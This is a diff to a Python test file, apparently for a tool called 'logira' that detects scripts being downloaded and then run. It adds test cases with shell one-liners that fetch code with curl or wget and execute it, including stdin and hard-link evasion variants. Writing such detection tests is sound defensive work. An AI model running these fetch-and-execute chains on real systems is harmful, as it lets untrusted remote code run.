@@ -105,8 +105,10 @@ def test_interpreter_fetching_and_exec_ing_code(logira, http_payloads):
         "curl -s -o x.sh URL/sh && sh x.sh",
         "wget -q -O run.py URL/py; /usr/bin/python3 run.py",
         "curl -s -o f URL/sh; sed -i '1i #!/bin/sh' f; chmod +x f; ./f",
+        "curl -s -o y.sh URL/sh; sh < y.sh",
+        "curl -s -o z URL/sh; sed -i '1i #!/bin/sh' z; chmod +x z; ln z /tmp/lgz-$$; /tmp/lgz-$$; rm -f /tmp/lgz-$$",
     ],
-    ids=["sh-operand", "python-operand", "shebang-image"],
+    ids=["sh-operand", "python-operand", "shebang-image", "stdin-file", "hard-link-elsewhere"],
 )
 def test_download_to_a_file_then_run_it(logira, http_payloads, script):
     run = _run(logira, script.replace("URL", http_payloads))
